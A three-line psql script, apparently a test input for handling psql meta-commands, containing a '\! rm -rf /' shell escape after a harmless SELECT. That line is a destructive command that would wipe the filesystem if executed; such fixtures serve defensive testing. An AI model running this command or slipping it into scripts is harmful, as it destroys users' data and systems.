\set ON_ERROR_STOP on
SELECT '\gexec not here';
  \! rm -rf /
